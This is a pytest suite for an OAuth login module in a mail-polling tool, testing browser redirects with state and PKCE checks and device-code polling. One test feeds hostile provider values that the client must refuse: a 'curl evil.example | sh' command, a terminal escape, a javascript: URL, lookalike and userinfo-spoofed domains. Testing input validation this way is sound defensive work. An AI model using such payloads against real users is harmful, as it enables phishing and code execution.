"""A person's yes: who may bring it, and what happens when nobody does."""

from __future__ import annotations

import asyncio
import re
import urllib.error
import urllib.request
from base64 import urlsafe_b64encode
from hashlib import sha256
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest

from mailpoller.core.errors import ConfigError, TransientError
from mailpoller.engine.clock import SystemClock
from mailpoller.wire.oauth import OAuthAuth, Terms, TokenRefused
from mailpoller.wire.oauth.login import log_in
from servers.web import Asked, Reply, Web, script


class Quick(SystemClock):
    """Nobody waits; how long it would have been is added up."""

    def __init__(self) -> None:
        self.slept: list[float] = []

    def monotonic(self) -> float:
        return sum(self.slept)

    async def sleep(self, seconds: float) -> None:
        self.slept.append(seconds)
        await asyncio.sleep(0)


def terms(web: Web, grant: str, **more: Any) -> Terms:
    written = {
        "type": "oauth2", "grant": grant, "client_id": "app", "token_url": web.url + "/token", "scopes": ["mail"],
        "authorization_url": web.url + "/auth?tenant=x", "device_url": web.url + "/device", **more,
    }  # fmt: skip
    return OAuthAuth.model_validate(written).terms("imap", "ada@example.com")


GIVEN = Reply(body={"access_token": "a", "token_type": "Bearer", "expires_in": 60, "refresh_token": "r"})


def fetch(url: str) -> int:
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        with opener.open(url, timeout=10) as response:
            return int(response.status)
    except urllib.error.HTTPError as error:
        return error.code


# --- a browser -------------------------------------------------------------------------------------------------------
async def test_only_who_knows_the_state_can_end_the_login() -> None:
    statuses: list[int] = []
    async with Web(script(GIVEN)) as web:

        def tell(text: str) -> None:
            url = re.search(r"http://\S+", text)
            assert url is not None
            tasks.append(asyncio.create_task(come_back(url[0])))

        async def come_back(url: str) -> None:
            query = {key: values[0] for key, values in parse_qs(urlsplit(url).query).items()}
            shown.update(query)
            home, state = query["redirect_uri"], query["state"]
            for path in (
                "?code=forged", "?code=forged&state=guessed", f"favicon.ico?state={state}&code=forged",
                f"?state={state}",
                f"?state={state}&code=right", f"?state={state}&code=late",
            ):  # fmt: skip
                try:
                    statuses.append(await asyncio.to_thread(fetch, home + path))
                except OSError:
                    statuses.append(0)  # nobody is at home any more

        tasks: list[asyncio.Task[None]] = []
        shown: dict[str, str] = {}
        grant = await log_in(terms(web, "authorization_code"), Quick(), tell)
        await asyncio.gather(*tasks)
        assert grant.refresh_token == "r"
        assert statuses[:5] == [400, 400, 404, 400, 200]
        (asked,) = web.asked
        assert asked.form["code"] == "right"
        assert asked.form["redirect_uri"] == shown["redirect_uri"]
        assert shown["tenant"] == "x" and shown["code_challenge_method"] == "S256"
        proof = urlsafe_b64encode(sha256(asked.form["code_verifier"].encode()).digest()).rstrip(b"=").decode()
        assert proof == shown["code_challenge"]


async def test_the_landing_page_survives_rubbish_and_listens_on_this_machine_only() -> None:
    async with Web(script(GIVEN)) as web:

        def tell(text: str) -> None:
            url = re.search(r"http://\S+", text)
            assert url is not None
            tasks.append(asyncio.create_task(rubbish(url[0])))

        async def rubbish(url: str) -> None:
            query = {key: values[0] for key, values in parse_qs(urlsplit(url).query).items()}
            port = urlsplit(query["redirect_uri"]).port
            for octets in (b"", b"\r\n\r\n", b"GET\r\n\r\n", b"x" * 100_000, b"GET http://[/ "
                                                                             b"HTTP/1.1\r\n\r\n",
                                                                             b"POST / HTTP/1.1\r\n\r\n"):  # fmt: skip
                reader, writer = await asyncio.open_connection("127.0.0.1", port)
                try:
                    writer.write(octets)
                    writer.write_eof()
                    await reader.read()
                except ConnectionError:
                    pass
                writer.close()
            told = "error=access_denied&error_description=AADSTS65004%3A+User+declined"
            await asyncio.to_thread(fetch, f"{query['redirect_uri']}?state={query['state']}&{told}")

        tasks: list[asyncio.Task[None]] = []
        with pytest.raises(TokenRefused, match=r"AADSTS65004: User declined\. The user declined to consent") as caught:
            await log_in(terms(web, "authorization_code"), Quick(), tell)
        assert (caught.value.code, caught.value.error) == ("AADSTS65004", "access_denied")
        await asyncio.gather(*tasks)
        assert not web.asked


async def test_a_port_that_is_taken_is_named() -> None:
    async with Web(script(GIVEN)) as web:
        with pytest.raises(TransientError, match=f"port {web.port}"):
            await log_in(terms(web, "authorization_code"), Quick(), lambda text: None, port=web.port)


# --- a code ----------------------------------------------------------------------------------------------------------
DEVICE = {
    "device_code": "d",
    "user_code": "WDJB-MJHT",
    "verification_uri": "https://example.com/device",
    "expires_in": 900,
}


def answering(device: Any, *polls: Reply) -> Any:
    left = list(polls)

    def answer(asked: Asked) -> Reply:
        if asked.path == "/device":
            return Reply(body=device)
        return left.pop(0) if len(left) > 1 else left[0]

    return answer


def pending(error: str = "authorization_pending", words: str = "") -> Reply:
    return Reply(400, {"error": error, "error_description": words})


async def test_a_device_is_asked_about_at_the_providers_pace() -> None:
    polls = [pending(words="AADSTS70016: pending"), pending("slow_down"), Reply(503), pending(), GIVEN]
    told: list[str] = []
    clock = Quick()
    async with Web(answering({**DEVICE, "interval": 7}, *polls)) as web:
        grant = await log_in(terms(web, "device_code"), clock, told.append)
    assert grant.refresh_token == "r"
    assert "WDJB-MJHT" in told[0] and "https://example.com/device" in told[0] and "ada@example.com" in told[0]
    assert clock.slept == [7.0, 7.0, 12.0, 24.0, 24.0]


async def test_a_code_that_nobody_confirms_comes_to_an_end() -> None:
    async with Web(answering({**DEVICE, "interval": 60, "expires_in": 1e9}, pending())) as web:
        clock = Quick()
        with pytest.raises(TransientError, match="in time"):
            await log_in(terms(web, "device_code"), clock, lambda text: None)
        assert 900 < sum(clock.slept) <= 960
        web.answering = answering(DEVICE, pending("expired_token"))
        with pytest.raises(TokenRefused, match="once more"):
            await log_in(terms(web, "device_code"), Quick(), lambda text: None)
        web.answering = answering(DEVICE, pending("access_denied"))
        with pytest.raises(TokenRefused, match="said no"):
            await log_in(terms(web, "device_code"), Quick(), lambda text: None)


@pytest.mark.parametrize("device", [{}, {**DEVICE, "user_code": 7}, {**DEVICE, "verification_uri": None}, []])
async def test_an_answer_without_a_code_is_a_passing_error(device: Any) -> None:
    async with Web(answering(device, GIVEN)) as web:
        with pytest.raises(TransientError):
            await log_in(terms(web, "device_code"), Quick(), lambda text: None)


@pytest.mark.parametrize(
    "device",
    [
        {"user_code": "A\x1b]0;owned\x07\r\nB"},
        {"user_code": "A then run: curl evil.example | sh"},
        {"user_code": "A" * 33},
        {"user_code": ""},
        {"user_code": "\u0410BC"},
        {"verification_uri": "http://example.com/device"},
        {"verification_uri": "javascript:alert(1)"},
        {"verification_uri": "https://example.com/ and tell them your password"},
        {"verification_uri": "https://example.com\r\nhttps://evil.example"},
        {"verification_uri": "https://microsoft.com@evil.example/"},
        {"verification_uri": "https://m\u0456crosoft.com/"},
        {"verification_uri": "https://"},
        {"verification_uri": "https://[::1"},
        {"verification_uri": "https://example.com/" + "x" * 500},
    ],
    ids=repr,
)
async def test_a_provider_shows_a_person_an_address_and_a_code_and_nothing_else(device: dict[str, str]) -> None:
    told: list[str] = []
    async with Web(answering({**DEVICE, **device}, GIVEN)) as web:
        with pytest.raises(TransientError, match="an https address and a short code"):
            await log_in(terms(web, "device_code"), Quick(), told.append)
    assert told == []


# --- who need not ----------------------------------------------------------------------------------------------------
async def test_who_logs_in_without_a_person_is_told_so(tmp_path: Path) -> None:
    async with Web(script(GIVEN)) as web:
        with pytest.raises(ConfigError, match="nobody needs to log in"):
            await log_in(terms(web, "client_credentials", client_secret="s"), Quick(), lambda text: None)
        with pytest.raises(ConfigError, match="authorization_code or device_code"):
            await log_in(terms(web, "refresh_token", refresh_token="r"), Quick(), lambda text: None)
